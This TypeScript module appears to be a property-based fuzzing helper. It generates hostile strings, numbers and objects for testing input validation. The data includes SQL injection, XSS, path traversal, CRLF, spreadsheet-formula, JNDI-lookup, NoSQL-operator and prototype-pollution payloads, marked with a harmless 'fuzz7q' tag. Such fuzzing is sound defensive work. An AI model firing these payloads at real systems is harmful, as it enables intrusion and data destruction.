import fc from 'fast-check'

/** Sent as a text: an answer that a browser may read as a page must never repeat it unescaped. */
export const markup = '<script>fuzz7q()</script>'

const plainTexts = [
  '',
  ' ',
  '\t\n',
  '\u0000',
  'a\u0000b',
  '\ud800',
  'x\udc00y',
  '\ufeff',
  '\u2028\u2029',
  '\u202egnirts\u202c',
  'e\u0301\u0301\u0301',
  `Z${'\u0300\u0315\u0323'.repeat(60)}`,
  '👩‍👩‍👧‍👦'.repeat(20),
  'ﬀ ß İ ı ſ K',
  '\uffff\ufffe',
  "' OR 1=1 --",
  "'; DROP TABLE users; --",
  "1'; SELECT pg_sleep(20); --",
  '1) OR pg_sleep(20) IS NULL --',
  '" OR ""="',
  '%',
  '_%',
  '\\',
  '%_\\%',
  '$1',
  '${7*7}',
  '{{7*7}}',
  '%s%n%x',
  markup,
  `"><img src=x onerror=fuzz7q()>${markup}`,
  'javascript:fuzz7q()',
  '../../../../etc/passwd',
  '..%2f..%2fetc%2fpasswd',
  '..\\..\\windows\\win.ini',
  'file:///etc/passwd',
  'http://169.254.169.254/latest/meta-data',
  'a\r\nset-cookie: fuzz7q=1',
  '=cmd|calc!A1',
  '__proto__',
  'constructor',
  'toString',
  'null',
  'undefined',
  'NaN',
  'true',
  '0',
  '-1',
  '1e999',
  '9'.repeat(400),
  '0x10',
  '１２３',
  '2026-02-30',
  '0000-01-01',
  '0000-01-01T00:00:00Z',
  '0001-01-01T00:00:00.000Z',
  '9999-12-31T23:59:59.999Z',
  '9999-12-31',
  '-271821-04-20T00:00:00Z',
  '+275760-09-13T00:00:00Z',
  '2026-12-07T08:00:00.123456789Z',
  '2026-12-07T24:00:00Z',
  '2026-12-07T08:00:00+25:00',
  '00000000-0000-0000-0000-000000000000',
  'ffffffff-ffff-ffff-ffff-ffffffffffff',
  '{00000000-0000-4000-8000-000000000001}',
  'a@b',
  `${'a.'.repeat(100)}@${'b.'.repeat(60)}fr`,
  '"a b"@example.test',
  '+33',
  '+999999999999999',
  '${jndi:ldap://fuzz7q.test/a}',
  '(a+)+$',
]

const longTexts = [
  `${'a'.repeat(50_000)}!`,
  ' '.repeat(50_000),
  '@'.repeat(10_000),
  '1'.repeat(60_000),
  `${'a-'.repeat(20_000)}é`,
  '\u0301'.repeat(20_000),
  '-'.repeat(400_000),
]

const longerThanAllowed = fc
  .constantFrom(26, 81, 101, 151, 201, 256, 501, 1_001, 2_001, 5_001)
  .map((length) => 'a'.repeat(length))

export const hostileText = fc.oneof(
  { weight: 72, arbitrary: fc.constantFrom(...plainTexts) },
  { weight: 7, arbitrary: fc.constantFrom(...longTexts) },
  { weight: 1, arbitrary: longerThanAllowed },
)

export const hostileNumber = fc.constantFrom(
  0,
  -0,
  -1,
  0.5,
  0.1 + 0.2,
  1.005,
  255,
  32_768,
  65_536,
  2_147_483_647,
  2_147_483_648,
  -2_147_483_649,
  9_007_199_254_740_991,
  9_007_199_254_740_992,
  2 ** 63,
  1e21,
  1e100,
  1e308,
  -1e308,
  5e-324,
  13.999999999,
  -12.5,
  999_999.99,
  1_000_000.01,
  53,
  54,
  1969,
  10_000,
  275_761,
)

/** Each is made anew: a later step may change it in place. */
const others = fc.constantFrom<() => unknown>(
  () => null,
  () => true,
  () => false,
  () => [],
  () => ({}),
  () => [[]],
  () => [null],
  () => [undefined],
  () => ({ $ne: 1 }),
  () => ({ $gt: '' }),
  () => ({ length: 1_000_000_000 }),
  () => ({ toJSON: 'x', valueOf: 1, toString: 1 }),
  () => ({ constructor: { prototype: { fuzz7q: true } } }),
  () => JSON.parse('{"__proto__":{"fuzz7q":true}}') as unknown,
  () => Array.from({ length: 5_000 }, (_, index) => index),
  () => Array.from({ length: 1_001 }, () => ({})),
  () => Object.fromEntries(Array.from({ length: 2_000 }, (_, index) => [`k${index}`, index])),
  () => nested(60),
  () => nested(3_000),
)

function nested(depth: number): unknown {
  let value: unknown = 'deep'
  for (let level = 0; level < depth; level += 1) value = level % 2 === 0 ? [value] : { a: value }
  return value
}

const anything = fc.oneof(
  hostileText.map((text) => () => text),
  hostileNumber.map((number) => () => number),
  { weight: 2, arbitrary: others },
)

/** Any JSON value; more often one of the type that it replaces, which passes more checks. */
export const hostileValue = fc
  .tuple(fc.constantFrom(true, true, false), hostileText, hostileNumber, anything)
  .map(([keepsType, text, number, make]) => (instead: unknown): unknown => {
    if (keepsType && typeof instead === 'string') return text
    return keepsType && typeof instead === 'number' ? number : make()
  })
